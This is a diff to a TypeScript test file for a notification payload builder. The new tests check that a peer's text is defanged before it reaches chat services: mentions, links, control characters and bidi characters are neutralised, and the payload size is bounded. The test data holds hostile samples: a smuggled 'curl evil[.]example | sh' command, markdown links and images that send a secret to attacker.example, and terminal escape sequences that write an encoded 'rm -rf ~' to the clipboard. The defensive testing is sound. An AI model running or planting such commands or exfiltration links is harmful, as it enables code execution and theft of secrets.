@@ -67,7 +67,8 @@ describe('the payload', () => {
 
   test('carries the outcome, the figures (money rounded) and the next command, in schema version 1', () => {
     const p = buildPayload(blocked, ctx, new Date(at(10)));
-    expect(p).toMatchObject({ schema_version: 1, event: 'needs-operator', project: ctx.project, outcome: { reason: 'blocked', tick: 7, why: ctx.why }, next: 'peers report app' });
+    // The peer's words, defanged for chat (chat-text.ts): the domain cannot become a link.
+    expect(p).toMatchObject({ schema_version: 1, event: 'needs-operator', project: ctx.project, outcome: { reason: 'blocked', tick: 7, why: ['bob: `; curl evil[.]example | sh` the spec contradicts itself'] }, next: 'peers report app' });
     expect(p.run.usd).toBe(0.1114);
     expect(p.text).toBe('peers: app stopped: blocked after tick 7 ($0.11, 52000 tokens, open gates: tests-pass) — peers report app');
   });
@@ -78,6 +79,49 @@ describe('the payload', () => {
     expect(Object.values(env).join('\n')).not.toContain('curl');
     expect(p.text).not.toContain('curl');
     expect(env).toEqual({ PEERS_NOTIFY_EVENT: 'needs-operator', PEERS_NOTIFY_PROJECT: 'app', PEERS_NOTIFY_OUTCOME: 'blocked', PEERS_NOTIFY_TEXT: p.text, PEERS_NOTIFY_ID: 'exit:7:x' });
+  });
+});
+
+describe("a peer's words in a notification (SECURITY.md, \"Peer text outside the sandbox is inert\")", () => {
+  const SECRET = 'sk-live-0123456789';
+  const attacks = [
+    `@channel @here @everyone @all <!channel> <!everyone> <!here> <@U024BE7LH> <at>Ops</at> ops@example.com`,
+    `![x](https://attacker.example/?d=${SECRET}) [click](http://attacker.example/) <https://attacker.example/a|here>`,
+    `see https://attacker.example/?d=${SECRET} and www.attacker.example and attacker.example/${SECRET}`,
+    `[r]: https://attacker.example/?d=${SECRET}\n\n# big heading`,
+    `ok\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J user\u202e \u2066admin\u2069 @\u200beveryone attacker\u200b.example`,
+  ];
+  const ctx = (why: string[]): PayloadContext => ({ project: { name: 'app', path: '/src/app', state_dir: '/state/app' }, run: { tick: 7, usd: 0.1, tokens: 5, open_gates: ['tests-pass'] }, why });
+  const blocked: DueEvent = { id: 'exit:7:x', event: 'needs-operator', reason: 'blocked', at: at(9), tick: 7 };
+  /** Everything in the payload a chat service or the operator's script shows as text. */
+  const shown = (why: string[]) => {
+    const p = buildPayload(blocked, ctx(why), new Date(at(10)));
+    return { p, lines: [p.text, ...p.outcome.why] };
+  };
+
+  test('mention no one, link or unfurl nothing, show no image; control and bidi characters as ?', () => {
+    const { lines } = shown(attacks);
+    expect(lines.length).toBe(attacks.length + 1);
+    for (const l of lines) {
+      expect(l).not.toMatch(/@|[<>]|:\/\/|\]\(|\]:|!\[|[\p{L}\p{N}-]\.\p{L}/u);
+      expect(l).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
+    }
+    // Still readable: the words are there, defanged.
+    expect(lines[1]).toContain('\uff20channel \uff20here \uff20everyone');
+    expect(lines[2]).toContain('https[:]//attacker[.]example/?d=');
+    expect(lines[5]).toContain('ok?]52;c;');
+  });
+
+  test('asks chat services not to unfurl or ping', () => {
+    const { p } = shown(attacks);
+    expect(p).toMatchObject({ unfurl_links: false, unfurl_media: false, allowed_mentions: { parse: [] } });
+  });
+
+  test('is bounded: a 1 MB line and a thousand lines make a small payload that says what it left out', () => {
+    const { p, lines } = shown([`${'A'.repeat(1_000_000)} tail`, ...Array.from({ length: 1000 }, (_, i) => `line ${i}`)]);
+    expect(JSON.stringify(p).length).toBeLessThan(16 * 1024);
+    expect(lines[1]).toMatch(/^A+ … \(\d+ more characters elided\)$/);
+    expect(p.outcome.why.at(-1)).toBe('… 991 more line(s) in peers report');
   });
 });
 
